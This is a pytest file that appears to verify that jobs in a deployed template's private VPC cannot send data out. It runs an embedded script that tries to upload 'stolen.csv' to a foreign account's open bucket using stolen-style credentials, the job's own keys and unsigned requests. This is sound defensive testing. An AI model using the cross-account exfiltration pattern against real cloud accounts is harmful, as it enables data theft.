"""A job in the private VPC of the deployed template cannot send data to another account."""

from __future__ import annotations

import json
from uuid import uuid4

import pytest
from moto.iam.models import iam_backends
from moto.s3.models import s3_backends
from moto.sts.models import sts_backends

from local_cloud.child_environment import NO_ACCOUNT
from local_cloud.server import running
from local_cloud.tests.sagemaker.conftest import Workshop, make_role
from tests.application.synthesised import synthesised

pytestmark = pytest.mark.laptop

FOREIGN_ACCOUNT, FOREIGN_BUCKET = "210987654321", "another-company"
# Tries each way out of the VPC, and writes the errors to an output.
SCRIPT = f"""
import json, os, pathlib
import boto3
from botocore import UNSIGNED
from botocore.config import Config

def error_of(call, **request):
    try:
        call(**request)
    except Exception as error:
        return str(error)

foreign = {{
    "aws_access_key_id": os.environ["FOREIGN_KEY"],
    "aws_secret_access_key": os.environ["FOREIGN_SECRET"],
    "aws_session_token": os.environ["FOREIGN_TOKEN"],
}}
unsigned = {{"config": Config(signature_version=UNSIGNED)}}
data = {{"Bucket": "{FOREIGN_BUCKET}", "Key": "stolen.csv", "Body": b"1,2"}}
errors = {{
    "foreign keys": error_of(boto3.client("s3", **foreign).put_object, **data),
    "own keys": error_of(boto3.client("s3").put_object, **data),
    "no keys": error_of(boto3.client("s3", **unsigned).put_object, **data),
    "no endpoint": error_of(boto3.client("logs").describe_log_groups),
    "endpoint": error_of(boto3.client("sagemaker").list_model_packages),
}}
pathlib.Path("/opt/ml/processing/output/out/errors.json").write_text(json.dumps(errors))
"""


@pytest.fixture(scope="module")
def cloud(tmp_path_factory):
    """A laptop cloud in this process, so that the test can create another account."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in NO_ACCOUNT.items():
            patch.setenv(name, value)
        with running(state=tmp_path_factory.mktemp("private") / "state") as cloud:
            yield cloud


@pytest.fixture(scope="module")
def vpc_config(cloud):
    """The private subnets and the group of jobs in the network stack of a fixed environment."""
    client = cloud.client("cloudformation")
    key = cloud.client("kms").create_key()["KeyMetadata"]["Arn"]
    client.create_stack(
        StackName="network",
        TemplateBody=json.dumps(_with(key, synthesised("basic").templates["network"])),
        Capabilities=["CAPABILITY_IAM"],
    )
    (stack,) = client.describe_stacks(StackName="network")["Stacks"]
    assert stack["StackStatus"] == "CREATE_COMPLETE", stack.get("StackStatusReason")
    listed = client.list_stack_resources(StackName="network")["StackResourceSummaries"]
    ids = {each["LogicalResourceId"]: each["PhysicalResourceId"] for each in listed}
    return {
        "Subnets": [value for value in ids.values() if value.startswith("subnet-")],
        "SecurityGroupIds": [
            next(
                v
                for k, v in ids.items()
                if k.startswith("JobSecurityGroup") and v.startswith("sg-")
            )
        ],
    }


def _with(key, value):
    """Replace the imported key of the flow log, which another stack creates."""
    match value:
        case {"Fn::ImportValue": _}:
            return key
        case dict():
            return {name: _with(key, each) for name, each in value.items()}
        case list():
            return [_with(key, each) for each in value]
    return value


@pytest.fixture(scope="module")
def foreign(cloud):
    """The variables with credentials of another account, whose bucket is open to everyone."""
    role = iam_backends[FOREIGN_ACCOUNT]["aws"].create_role(
        role_name="thief",
        assume_role_policy_document=_document(Principal="*", Action="sts:AssumeRole"),
        path="/",
        permissions_boundary=None,
        description="",
        tags=[],
        max_session_duration="3600",
    )
    role.put_policy("everything", _document(Action="*", Resource="*"))
    buckets = s3_backends[FOREIGN_ACCOUNT]["aws"]
    bucket = buckets.create_bucket(FOREIGN_BUCKET, "us-east-1")
    bucket.policy = _document(Principal="*", Action="s3:*", Resource="*").encode()
    session = sts_backends[FOREIGN_ACCOUNT]["aws"].assume_role(
        region_name="us-east-1",
        role_session_name="thief",
        role_arn=role.arn,
        policy=None,
        duration=3600,
        external_id=None,
    )
    return {
        "FOREIGN_KEY": session.access_key_id,
        "FOREIGN_SECRET": session.secret_access_key,
        "FOREIGN_TOKEN": session.session_token,
    }


def _document(**statement):
    return json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", **statement}]})


@pytest.fixture(scope="module")
def errors(cloud, foreign):
    """Return a function that runs the script in a job, and returns the errors of its calls."""
    bucket = f"own-{uuid4().hex[:12]}"
    cloud.client("s3").create_bucket(Bucket=bucket)
    everything = {"Effect": "Allow", "Action": "*", "Resource": "*"}
    workshop = Workshop(
        sagemaker=cloud.client("sagemaker"),
        s3=cloud.client("s3"),
        bucket=bucket,
        role=make_role(cloud, "job", [everything]),
    )

    def run(**network):
        request = workshop.processing(
            SCRIPT, outputs={"out": workshop.uri("out")}, Environment=foreign, **network
        )
        found = workshop.run_processing(request)
        assert found["ProcessingJobStatus"] == "Completed", found
        return json.loads(workshop.text("out/errors.json"))

    return run


def stolen():
    return list(s3_backends[FOREIGN_ACCOUNT]["aws"].buckets[FOREIGN_BUCKET].keys)


def test_nothing_leaves_the_vpc(errors, vpc_config):
    found = errors(NetworkConfig={"VpcConfig": vpc_config})
    denied = "because no VPC endpoint policy allows the s3:PutObject action"
    for keys in ("foreign keys", "own keys", "no keys"):
        assert denied in found[keys], keys
    assert "assumed-role/thief/thief" in found["foreign keys"]
    assert "cannot reach logs: vpc-" in found["no endpoint"]
    assert "has no endpoint of logs" in found["no endpoint"]
    assert found["endpoint"] is None
    assert stolen() == []


def test_outside_of_the_vpc_the_same_calls_succeed(errors):
    """So only the network denies them."""
    found = errors()
    assert {name for name, error in found.items() if error} <= {"own keys", "no keys"}
    assert found["foreign keys"] is None
    assert stolen() == ["stolen.csv"]
